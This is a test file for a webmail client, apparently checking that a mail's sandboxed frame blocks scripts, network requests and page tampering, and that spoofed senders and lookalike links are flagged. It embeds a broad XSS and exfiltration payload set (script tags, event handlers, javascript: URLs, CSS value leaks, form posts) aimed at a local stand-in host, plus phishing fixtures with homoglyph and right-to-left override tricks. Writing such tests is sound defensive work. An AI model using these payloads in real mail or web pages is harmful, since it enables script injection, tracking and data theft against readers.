import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { generateAddress, sendBySmtp } from '#tests/support/home-page.ts';
import { setUpSite } from '#tests/support/site.ts';

// Many steps each, on whatever machine: slow is not wrong.
vi.setConfig({ testTimeout: 90_000 });

let sink: Server;
let url: string;
/** Every connection to the stranger, also one that asks for nothing, and every path it was asked for. */
let reached: string[] = [];

const site = setUpSite();
beforeAll(async () => {
  sink = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/svg+xml', 'access-control-allow-origin': '*' });
    response.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
  });
  sink.on('connection', () => reached.push('connection'));
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
});
afterAll(async () => {
  sink?.close();
});

const script =
  "try{top.owned=1}catch(e){};try{parent.postMessage('owned','*')}catch(e){};document.title='owned'";

/** What comes through when nothing is taken out. */
const attacks = () => `
<script>${script};fetch('${url}/fetch');new Image().src='${url}/image';navigator.sendBeacon('${url}/beacon')</script>
<script src="${url}/script.js"></script><script type="module">import '${url}/module.js'</script>
<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}"><link rel="prefetch" href="${url}/prefetch">
<link rel="preload" as="image" href="${url}/preload"><link rel="modulepreload" href="${url}/modulepreload">
<link rel="stylesheet" href="${url}/css"><link rel="icon" href="${url}/icon"><link rel="manifest" href="${url}/manifest">
<link rel="import" href="${url}/import"><base href="${url}/base/"><meta http-equiv="refresh" content="0;url=${url}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b">
<style>
@import "${url}/css-import"; @font-face{font-family:x;src:url(${url}/font)} *{font-family:x}
body{background:url(${url}/css-background);cursor:url(${url}/cursor),auto;list-style-image:url(${url}/list)}
p::after{content:url(${url}/content)} p{mask:url(${url}/mask);filter:url(${url}/filter#a);border-image:url(${url}/border)}
p{background:image-set("${url}/set" 1x);shape-outside:url(${url}/shape)}
input[value^="s"]{background:url(${url}/leak-s)} a:visited{background:url(${url}/visited)}
html,body,div.over{position:fixed!important;inset:-5000px!important;z-index:2147483647!important;background:red!important}
</style>
<body background="${url}/body" onload="${script}" onpageshow="${script}" onfocus="${script}">
<img src="${url}/img" onerror="${script}"><img srcset="${url}/srcset 2x, ${url}/srcset3 3x" src="data:,x" onerror="${script}">
<picture><source srcset="${url}/source"><img src="${url}/picture" loading="lazy"></picture><input type="image" src="${url}/input">
<video src="${url}/video" poster="${url}/poster" autoplay onloadstart="${script}"></video><audio src="${url}/audio" autoplay></audio>
<track src="${url}/track"><iframe src="${url}/iframe"></iframe><iframe srcdoc="<script>${script}</script>"></iframe>
<iframe src="javascript:${script}"></iframe><frameset><frame src="${url}/frame"></frameset><portal src="${url}/portal"></portal>
<object data="${url}/object"></object><embed src="${url}/embed"><applet code="${url}/applet"></applet>
<svg onload="${script}"><script>${script}</script><image href="${url}/svg"/><use href="${url}/use#a"/><feImage href="${url}/feimage"/>
<animate attributeName="href" values="javascript:${script}"/><foreignObject><iframe src="${url}/foreign"></iframe></foreignObject></svg>
<math><mtext><mglyph><style><img src=x onerror="${script}"></style></mglyph></mtext><maction actiontype="statusline" xlink:href="javascript:${script}">m</maction></math>
<form action="${url}/form" id="auto"><input name="secret" value="secret" autofocus onfocus="${script}"><button id="submit">Send</button></form>
<form id="parent"></form><img name="body"><a id="document" name="cookie"></a><form name="getElementById"></form>
<table background="${url}/table"><tr><td background="${url}/td">t</td></tr></table><details open ontoggle="${script}"><summary>d</summary></details>
<marquee onstart="${script}">m</marquee><div class="over" style="background:url(${url}/inline)">over everything</div>
<template><img src="${url}/template"></template><noscript><img src="${url}/noscript"></noscript>
<a id="js" href="javascript:${script}">js</a><a id="data" href="data:text/html,<script>${script}</script>">data</a>
<a id="top" href="${url}/top" target="_top">top</a><a id="parent-link" href="${url}/parent" target="_parent">parent</a>
<a id="self" href="${url}/self" target="_self" ping="${url}/ping">self</a>
<p>END OF MAIL</p>`;

/** Opens a harmless mail, then puts this into its very frame, as if no sanitizer had stood in between. */
async function showUnsanitized(page: Page, html: string, { remote = false } = {}) {
  const address = await generateAddress(page);
  await sendBySmtp(site.app.smtpPort, {
    to: address,
    subject: 'The frame',
    html: `<p>PLACE</p>${remote ? `<img src="${url}/consented" alt="">` : ''}`,
  });
  await page.getByRole('button', { name: /The frame/ }).click();
  await page.frameLocator('iframe[title="Message"]').getByText('PLACE').waitFor();
  if (remote) await page.getByRole('button', { name: 'Show remote images' }).click();
  await page.waitForTimeout(300);
  reached = [];
  const around = await outside(page);
  await page.evaluate(`(() => {
    const frame = document.querySelector('iframe[title="Message"]');
    frame.srcdoc = frame.srcdoc.replace('PLACE', () => ${JSON.stringify(html)});
  })()`);
  return { around };
}

/** The page without its frame and without what counts time. */
const outside = (page: Page) =>
  page.evaluate(`(() => {
    const copy = document.documentElement.cloneNode(true);
    for (const one of copy.querySelectorAll('iframe, time, [role=timer], svg, title')) one.remove();
    const parts = copy.querySelectorAll('header, nav, h1, h2, footer, form, a');
    return [...parts].map((one) => one.outerHTML.replaceAll(/\\d+[smh]\\b|\\d+:\\d+|\\(\\d+\\)/g, ''));
  })()`) as Promise<string[]>;

const isOwned = (page: Page) => page.evaluate("'owned' in window");

describe('the frame of a mail, with no sanitizer before it', () => {
  it('runs no script, asks nobody for anything and changes nothing around it', async () => {
    const { page, context, problems } = await site.browser.openPage(site.app.http);
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    await page.evaluate(
      "addEventListener('message', ({ data }) => { if (data === 'owned') window.owned = 1 })",
    );
    const { around } = await showUnsanitized(page, attacks());
    await page.waitForTimeout(1_500);

    const frame = page.frames().find((one) => one.parentFrame() === page.mainFrame())!;
    for (const id of ['js', 'data', 'top', 'parent-link', 'submit'])
      await frame.evaluate(`document.getElementById('${id}')?.click()`).catch(() => {});
    await page.waitForTimeout(500);

    // For a frame within the frame Chromium connects before it reads the policy, and then asks for nothing. The
    // sanitizers let no such frame through: the test below.
    expect(reached.filter((what) => what !== 'connection')).toEqual([]);
    expect(dialogs).toBe(0);
    expect(await isOwned(page)).toBe(false);
    expect(await page.title()).not.toContain('owned');
    expect(page.url()).toBe(`${site.app.http}/`);
    expect(await outside(page)).toEqual(around);
    // What covers everything covers its own frame.
    const top = await page.evaluate("document.elementFromPoint(60, 20)?.closest('header') !== null");
    expect(top).toBe(true);
    // The frame is nobody: it has no storage and no way to the page.
    const inside = page.frames().filter((one) => one !== page.mainFrame());
    expect(
      inside.every(
        (one) =>
          ['about:srcdoc', 'about:blank', ''].includes(one.url()) || one.url().startsWith('chrome-error:'),
      ),
    ).toBe(true);
    expect(
      problems.filter((text) => /owned/.test(text) && !/Content Security Policy|sandbox/i.test(text)),
    ).toEqual([]);
    await context.close();
  });

  it('loads pictures and nothing but pictures once the reader asked for them', async () => {
    const { page, context } = await site.browser.openPage(site.app.http);
    const kinds = new Set<string>();
    page.on('requestfinished', (request) => {
      if (request.url().startsWith(url)) kinds.add(request.resourceType());
    });
    await showUnsanitized(page, attacks(), { remote: true });
    await expect.poll(() => reached.includes('/img')).toBe(true);
    await page.waitForTimeout(700);
    // A prefetch that policies count as a picture is 'other'.
    expect([...kinds].filter((kind) => kind !== 'other')).toEqual(['image']);
    for (const path of [
      '/fetch',
      '/script.js',
      '/css',
      '/font',
      '/iframe',
      '/video',
      '/form',
      '/refresh',
      '/object',
      '/top',
    ])
      expect(reached, path).not.toContain(path);
    expect(await isOwned(page)).toBe(false);
    expect(page.url()).toBe(`${site.app.http}/`);
    await context.close();
  });
});

describe('the same mail on its usual way', () => {
  it('makes not even a connection', async () => {
    const { page, context } = await site.browser.openPage(site.app.http);
    const address = await generateAddress(page);
    reached = [];
    const html = `<p>PLACE</p>${attacks()}`;
    await sendBySmtp(site.app.smtpPort, { to: address, subject: 'The frame', html });
    await page.getByRole('button', { name: /The frame/ }).click();
    await page.frameLocator('iframe[title="Message"]').getByText('PLACE').waitFor();
    await page.waitForTimeout(1_000);
    expect(reached).toEqual([]);
    await context.close();
  });
});

describe('a mail that pretends', () => {
  it('shows the true host of a link and the true address of its sender', async () => {
    const { page, context } = await site.browser.openPage(site.app.http);
    const address = await generateAddress(page);
    await sendBySmtp(site.app.smtpPort, {
      to: address,
      from: { name: '\u202eknaB ruoY\u202c <service@mybank.test>', address: 'mallory@evil.example' },
      subject: 'Pretending \u202efdp.exe',
      html: '<p>Words</p><a href="https://аррӏе.com/">https://apple.com</a> <a href="https://mybank.test@evil.example/">mybank.test</a> <a href="https://evil.example/\u202etset.knabym">\u202etset.knabym</a>',
    });
    await page.getByRole('button', { name: /Pretending/ }).click();
    await page.frameLocator('iframe[title="Message"]').getByText('Words').waitFor();
    await page.getByText(/links in this message/).click();
    const links = await page.locator('details a[target=_blank]').allTextContents();
    expect(links[0]).toMatch(/^https:\/\/xn--/);
    expect(links[1]).toContain('evil.example');
    expect(
      await page.getByText("The link text doesn't match its destination.").count(),
    ).toBeGreaterThanOrEqual(2);
    expect(await page.getByText('<mallory@evil.example>').isVisible()).toBe(true);
    const shown = await page.locator('main').textContent();
    expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    await context.close();
  });
});
